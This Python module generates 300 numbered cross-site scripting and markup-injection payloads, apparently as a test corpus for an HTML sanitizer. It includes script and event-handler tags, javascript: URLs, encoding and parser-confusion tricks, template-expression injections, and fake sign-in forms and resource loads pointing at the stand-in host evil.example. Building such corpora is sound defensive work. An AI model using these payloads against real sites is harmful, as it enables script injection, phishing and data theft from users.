"""Markup that tries to run a script, to ask another host, or to bring a form of its own: 300 payloads, each with its number.

Every payload that runs calls `pwned(n)`; every address it could ask is under evil.example.
"""

from __future__ import annotations

from collections.abc import Iterator

TAGS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=//evil.example/{n}></script>",
    "<img src=x onerror={run}>", "<img src=//evil.example/{n}.png>", "<img/src=`x`onerror={run}>", "<svg onload={run}>",
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>", "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe src=javascript:{run}></iframe>",
    "<iframe src=//evil.example/{n}></iframe>", "<object data=//evil.example/{n}></object>", "<embed src=//evil.example/{n}>",
    "<video src=//evil.example/{n} onerror={run}></video>", "<audio src=x onerror={run}>", "<video poster=//evil.example/{n}>",
    "<details open ontoggle={run}>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<marquee onstart={run}>", "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<form action=//evil.example/{n}><button>Sign in</button></form>", "<form id=f></form><button form=f formaction=//evil.example/{n}>x</button>",
    "<a href=javascript:{run}>link</a>", "<a href='jav&#x09;ascript:{run}'>link</a>", "<a href=data:text/html,<script>{run}</script>>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/{n}>",
    "<link rel=preconnect href=//evil.example>", "<style>@import '//evil.example/{n}';</style>", "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<p style='background:url(//evil.example/{n})'>x</p>", "<table background=//evil.example/{n}>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>", "<xmp><script>{run}</script></xmp>",
)  # fmt: skip
BREAKS = (
    "{tag}", '">{tag}', "'>{tag}", "</p></li></ol>{tag}", "--><!-- -->{tag}", "</textarea>{tag}", "</title>{tag}",
)  # fmt: skip
LINES = (
    "[click](javascript:{run})", "![x](//evil.example/{n}.png)", "[x]: javascript:{run}", "<javascript:{run}>",
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "<%= {run} %>", "#{{{run}}}", "javascript:{run}",
    "data:text/html,<script>{run}</script>", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "<<script>{run}//<</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>", "\u202e<script>{run}</script>", "<img src=x onerror\u00a0={run}>",
    "$$\\href{{javascript:{run}}}{{x}}$$", "```html\n<script>{run}</script>\n```",
)  # fmt: skip
COUNT = 300


def payloads() -> list[str]:
    """Return the 300 payloads, all different."""
    made = list(dict.fromkeys(_all()))[:COUNT]
    assert len(made) == COUNT
    return made


def _all() -> Iterator[str]:
    for n, line in enumerate(LINES):
        yield line.format(run=f"pwned({n})", n=n)
    n = len(LINES)
    for within in BREAKS:
        for tag in TAGS:
            yield within.format(tag=tag.format(run=f"pwned({n})", n=n))
            n += 1
